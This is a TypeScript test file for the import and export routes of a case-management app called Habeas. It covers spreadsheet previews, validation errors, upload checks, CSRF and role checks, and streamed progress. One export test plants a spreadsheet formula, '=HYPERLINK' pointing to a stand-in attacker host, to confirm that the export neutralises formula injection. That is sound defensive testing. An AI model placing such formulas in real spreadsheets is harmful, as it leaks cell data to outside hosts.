import { sql } from 'kysely';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import {
  caseListHeaders,
  caseListRow,
  rowsOfXlsx,
  xlsxOf,
} from '../../../../test/support/case-lists.ts';
import {
  buildEnrolledStaff,
  testPassword,
  totpCodeAt,
} from '../../../../test/support/staff-fixtures.ts';
import { testClock } from '../../../../test/support/test-clock.ts';
import { type TestDatabase, testDialects } from '../../../../test/support/test-databases.ts';
import {
  browserSession,
  buildTestServer,
  closeRouteHarness,
  openRouteHarness,
  signInOverHttp,
} from '../../../../test/support/test-server.ts';
import { createOrganisation } from '../../../app/organisations/create-organisation.ts';
import { setEscrowKey } from '../../../app/organisations/init-escrow.ts';
import type { Ports } from '../../../app/ports/ports.ts';
import { formatColumns, spreadsheetContentTypes } from '../../../contracts/imports.ts';
import type { Role } from '../../../domain/access/roles.ts';
import { suggestMapping } from '../../../domain/imports/import-fields.ts';
import { buildPorts } from '../../container.ts';
import type { HabeasServer } from '../build-server.ts';

const xlsxType = { 'content-type': spreadsheetContentTypes.xlsx };
const columns = formatColumns(suggestMapping(caseListHeaders));

describe.each(testDialects())('case list import and export over HTTP [$name]', (dialect) => {
  let database: TestDatabase;
  let clock: ReturnType<typeof testClock>;
  let ports: Ports;
  let server: HabeasServer;
  let orgId: string;

  beforeEach(async () => {
    ({ database, clock, ports, server, orgId } = await openRouteHarness(
      dialect,
      new Date('2026-11-20T12:00:00Z'),
      { escrow: true },
    ));
  });
  afterEach(() => closeRouteHarness({ server, database }));

  const signedIn = (roles: Role[]) => signInOverHttp({ server, ports, clock }, { orgId, roles });

  async function caseCount(): Promise<number> {
    const result = await sql<{ n: number | string }>`select count(*) as n from case_files`.execute(
      database.db,
    );
    return Number(result.rows[0]?.n);
  }

  function withBadBirthDate(n: number) {
    const row = caseListRow(n);
    row[1] = '31.02.2006';
    return row;
  }

  it('previews an upload: the columns, the suggested mapping, every bad row by line and column, in Russian', async () => {
    const lawyer = await signedIn(['lawyer']);
    const file = await xlsxOf(caseListHeaders, [caseListRow(1), withBadBirthDate(2)]);
    const response = await lawyer.browser.post('/api/v1/imports/preview', Buffer.from(file), {
      headers: xlsxType,
    });
    expect(response.statusCode).toBe(200);
    const preview = response.json();
    expect(preview.columns.slice(0, 2)).toEqual([
      { index: 0, letter: 'A', header: 'ФИО', suggested: 'fullName', chosen: 'fullName' },
      {
        index: 1,
        letter: 'B',
        header: 'Дата рождения',
        suggested: 'birthDate',
        chosen: 'birthDate',
      },
    ]);
    expect(preview).toMatchObject({
      format: 'xlsx',
      mappingProblems: [],
      rows: { read: 2, valid: 1, invalid: 1, blank: 0 },
      wouldCreate: { cases: 1, detentions: 1, draftMatters: 1, appeals: 1 },
      problems: [
        {
          line: 3,
          column: 1,
          field: 'birthDate',
          message: 'Строка 3, столбец B «Дата рождения»: Такого дня нет в календаре.',
        },
      ],
      sample: [
        {
          line: 2,
          fullName: 'Иванов1 Пётр Сергеевич',
          birthDate: '2006-05-02',
          detainedAt: '2026-10-02T06:40:00.000Z',
          medicalCategory: 'B',
          appealCaseNumber: '2а-1/2026',
        },
      ],
    });
    expect(response.headers['cache-control']).toBe('no-store');
    expect(await caseCount()).toBe(0);
  });

  it('previews with the mapping the person chose, in English when asked', async () => {
    const lawyer = await signedIn(['lawyer']);
    const file = await xlsxOf(caseListHeaders, [caseListRow(1)]);
    const response = await lawyer.browser.post(
      '/api/v1/imports/preview?columns=,fullName',
      Buffer.from(file),
      { headers: { ...xlsxType, 'accept-language': 'en' } },
    );
    const preview = response.json();
    expect(preview.columns.map((column: { chosen: string | null }) => column.chosen)).toEqual([
      null,
      'fullName',
      ...Array(caseListHeaders.length - 2).fill(null),
    ]);
    expect(preview).toMatchObject({ rows: { valid: 1 }, sample: [{ fullName: '02.05.2006' }] });
    const duplicated = await lawyer.browser.post(
      '/api/v1/imports/preview?columns=fullName,fullName',
      Buffer.from(file),
      { headers: { ...xlsxType, 'accept-language': 'en' } },
    );
    expect(duplicated.json().mappingProblems).toEqual([
      { column: 1, message: '“Full name” is chosen for two columns: keep one.' },
    ]);
    const unknown = await lawyer.browser.post(
      '/api/v1/imports/preview?columns=shoeSize',
      Buffer.from(file),
      { headers: xlsxType },
    );
    expect(unknown.statusCode).toBe(400);
  });

  it('imports a CSV file, streaming progress, and the cases open on their page', async () => {
    const lawyer = await signedIn(['lawyer']);
    const csv = [caseListHeaders.join(';'), ...[1, 2, 3].map((n) => caseListRow(n).join(';'))].join(
      '\r\n',
    );
    const response = await lawyer.browser.post(
      `/api/v1/imports?columns=${columns}`,
      Buffer.from(csv, 'utf8'),
      { headers: { 'content-type': 'text/csv; charset=utf-8' } },
    );
    expect(response.statusCode).toBe(200);
    expect(response.headers['content-type']).toBe('application/x-ndjson; charset=utf-8');
    const lines = response.body
      .trim()
      .split('\n')
      .map((line) => JSON.parse(line));
    expect(lines).toEqual([
      { type: 'progress', phase: 'sealing', done: 3, total: 3 },
      { type: 'progress', phase: 'writing', done: 3, total: 3 },
      {
        type: 'done',
        importId: expect.any(String),
        created: 3,
        skipped: 0,
        blank: 0,
        problems: [],
        problemsLeftOut: 0,
      },
    ]);
    const list = (await lawyer.browser.get('/api/v1/cases')).json();
    expect(list.cases).toHaveLength(3);
    const opened = (await lawyer.browser.get(`/api/v1/cases/${list.cases[0].id}`)).json();
    expect(opened).toMatchObject({
      assigneeIds: [lawyer.userId],
      timeline: [{ kind: 'detained', note: 'Метро Тверская' }],
      custody: { status: 'detained' },
      draftMatter: { medicalCategory: 'B' },
    });
  });

  it('refuses the whole file when a row is wrong and writes nothing; skips it when asked', async () => {
    const lawyer = await signedIn(['lawyer']);
    const file = Buffer.from(
      await xlsxOf(caseListHeaders, [caseListRow(1), withBadBirthDate(2), caseListRow(3)]),
    );
    const refused = await lawyer.browser.post(`/api/v1/imports?columns=${columns}`, file, {
      headers: xlsxType,
    });
    expect(refused.statusCode).toBe(422);
    expect(refused.json()).toEqual({
      error: {
        code: 'IMPORT_REFUSED',
        message: 'Импорт не выполнен: в таблице есть ошибки. Ничего не записано.',
        fields: [
          {
            path: 'rows.3.birthDate',
            message: 'Строка 3, столбец B «Дата рождения»: Такого дня нет в календаре.',
          },
        ],
      },
    });
    expect(await caseCount()).toBe(0);

    const skipped = await lawyer.browser.post(
      `/api/v1/imports?columns=${columns}&invalidRows=skip`,
      file,
      { headers: xlsxType },
    );
    const done = JSON.parse(skipped.body.trim().split('\n').at(-1) ?? '{}');
    expect(done).toMatchObject({
      type: 'done',
      created: 2,
      skipped: 1,
      problems: [{ line: 3, field: 'birthDate' }],
    });
    expect(await caseCount()).toBe(2);
  });

  it('refuses a mapping without a name column, naming what is missing', async () => {
    const lawyer = await signedIn(['lawyer']);
    const file = Buffer.from(await xlsxOf(caseListHeaders, [caseListRow(1)]));
    const refused = await lawyer.browser.post('/api/v1/imports?columns=,birthDate', file, {
      headers: xlsxType,
    });
    expect(refused.statusCode).toBe(422);
    expect(refused.json().error.fields).toEqual([
      { path: 'query.columns', message: 'Выберите столбец с ФИО: без имени дело не открыть.' },
    ]);
  });

  it('checks uploads by content: wrong types, disguised files, old Excel and oversize files are refused', async () => {
    const lawyer = await signedIn(['lawyer']);
    const csv = Buffer.from('ФИО\nИванов\n');
    const asJson = await lawyer.browser.post('/api/v1/imports/preview', { fullName: 'x' });
    expect(asJson.statusCode).toBe(415);
    const asOctets = await lawyer.browser.post('/api/v1/imports/preview', csv, {
      headers: { 'content-type': 'application/octet-stream' },
    });
    expect(asOctets.statusCode).toBe(415);
    const disguised = await lawyer.browser.post('/api/v1/imports/preview', csv, {
      headers: xlsxType,
    });
    expect(disguised.statusCode).toBe(422);
    expect(disguised.json().error).toEqual({
      code: 'SPREADSHEET_UNREADABLE',
      message: 'Файл не удалось прочитать как таблицу. Нужен файл XLSX или CSV.',
    });
    const oldExcel = Buffer.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1, 0, 0]);
    const legacy = await lawyer.browser.post('/api/v1/imports/preview', oldExcel, {
      headers: { ...xlsxType, 'accept-language': 'en' },
    });
    expect(legacy.json().error.message).toBe(
      'The file could not be read as a spreadsheet. This is the old Excel format (.xls): save the file as .xlsx.',
    );
    const huge = await lawyer.browser.post(
      '/api/v1/imports/preview',
      Buffer.alloc(10 * 1024 * 1024 + 1, 0x41),
      { headers: { 'content-type': 'text/csv' } },
    );
    expect(huge.statusCode).toBe(413);
  });

  it('lets only staff who open cases import, and only with a CSRF token', async () => {
    const file = Buffer.from(await xlsxOf(caseListHeaders, [caseListRow(1)]));
    const volunteer = await signedIn(['volunteer']);
    const forbidden = await volunteer.browser.post('/api/v1/imports/preview', file, {
      headers: xlsxType,
    });
    expect(forbidden.statusCode).toBe(403);
    const lawyer = await signedIn(['lawyer']);
    const forged = await lawyer.browser.post(`/api/v1/imports?columns=${columns}`, file, {
      headers: xlsxType,
      withoutCsrf: true,
    });
    expect(forged.json().error.code).toBe('CSRF_REJECTED');
    const anonymous = await browserSession(server).post('/api/v1/imports/preview', file, {
      headers: xlsxType,
    });
    expect(anonymous.statusCode).toBe(401);
    expect(await caseCount()).toBe(0);
  });

  it('exports the reader’s own cases as XLSX, formulas neutralised, each read audited', async () => {
    const lawyer = await signedIn(['lawyer']);
    const evil = caseListRow(1);
    evil[0] = '=HYPERLINK("http://evil.example/?"&A1,"Иванов")';
    await lawyer.browser.post(
      `/api/v1/imports?columns=${columns}`,
      Buffer.from(await xlsxOf(caseListHeaders, [evil, caseListRow(2)])),
      { headers: xlsxType },
    );
    const exported = await lawyer.browser.get('/api/v1/exports/my-cases.xlsx');
    expect(exported.statusCode).toBe(200);
    expect(exported.headers['content-type']).toBe(spreadsheetContentTypes.xlsx);
    expect(exported.headers['content-disposition']).toBe(
      'attachment; filename="habeas-cases-2026-11-20.xlsx"',
    );
    expect(exported.headers['x-habeas-exported']).toBe('2');
    const rows = await rowsOfXlsx(new Uint8Array(exported.rawPayload));
    expect(rows).toHaveLength(3);
    const names = rows.slice(1).map((row) => row[3]);
    expect(names).toContain(`'=HYPERLINK("http://evil.example/?"&A1,"Иванов")`);
    expect(names).toContain('Иванов2 Пётр Сергеевич');
    const reads = await database.db
      .selectFrom('audit_log')
      .select('details')
      .where('action', '=', 'case.read')
      .execute();
    expect(reads.map((read) => JSON.parse(read.details))).toEqual([
      { persons: 1, via: 'export' },
      { persons: 1, via: 'export' },
    ]);

    const volunteer = await signedIn(['volunteer']);
    const nothing = await volunteer.browser.get('/api/v1/exports/my-cases.xlsx', {
      'accept-language': 'en',
    });
    expect(nothing.headers['x-habeas-exported']).toBe('0');
    expect((await rowsOfXlsx(new Uint8Array(nothing.rawPayload)))[0]?.[0]).toBe('Habeas id');
  });

  it('describes the routes in the OpenAPI document with their upload types', async () => {
    const document = (await server.app.inject({ url: '/api/openapi.json' })).json();
    const preview = document.paths['/api/v1/imports/preview'].post;
    expect(Object.keys(preview.requestBody.content)).toEqual([
      spreadsheetContentTypes.xlsx,
      'text/csv',
    ]);
    expect(document.paths['/api/v1/exports/my-cases.xlsx'].get).toBeDefined();
  });
});

describe('case list import over a real connection', () => {
  it('sends progress lines while it writes, before the import ends', async () => {
    const database = await testDialects()[0]?.open();
    if (database === undefined) throw new Error('no test database');
    const clock = testClock(new Date('2026-11-20T12:00:00Z'));
    const ports = buildPorts(database, { clock });
    const server = await buildTestServer(ports);
    try {
      const orgId = (await createOrganisation(ports, { name: 'Test group' })).id;
      await setEscrowKey(ports, { orgId });
      const staff = await buildEnrolledStaff(ports, { orgId, roles: ['lawyer'] });
      clock.advance(31_000);
      const browser = browserSession(server);
      await browser.post('/api/v1/auth/login', { email: staff.email, password: testPassword });
      await browser.post('/api/v1/auth/second-factor', {
        code: await totpCodeAt(ports, staff.totpSecret),
      });
      const { csrfToken } = (await browser.get('/api/v1/auth/csrf')).json();
      const address = await server.app.listen({ port: 0, host: '127.0.0.1' });
      const file = await xlsxOf(
        caseListHeaders,
        Array.from({ length: 500 }, (_, index) => caseListRow(index)),
      );
      const response = await fetch(`${address}/api/v1/imports?columns=${columns}`, {
        method: 'POST',
        headers: {
          ...xlsxType,
          'x-csrf-token': csrfToken,
          cookie: ['habeas_session', 'habeas_csrf']
            .map((name) => `${name}=${browser.cookie(name)}`)
            .join('; '),
        },
        body: Buffer.from(file),
      });
      expect(response.status).toBe(200);
      const reader = response.body?.getReader();
      const decoder = new TextDecoder();
      const chunks: string[] = [];
      for (;;) {
        const chunk = await reader?.read();
        if (chunk === undefined || chunk.done) break;
        chunks.push(decoder.decode(chunk.value));
      }
      // The first progress line arrived on its own, long before the last one.
      expect(chunks.length).toBeGreaterThan(1);
      expect(JSON.parse(chunks[0]?.trim().split('\n')[0] ?? '{}')).toEqual({
        type: 'progress',
        phase: 'sealing',
        done: 100,
        total: 500,
      });
      const lines = chunks.join('').trim().split('\n');
      expect(lines).toHaveLength(11);
      expect(JSON.parse(lines.at(-1) ?? '{}')).toMatchObject({ type: 'done', created: 500 });
    } finally {
      await server.app.close();
      await database.close();
    }
  });
});
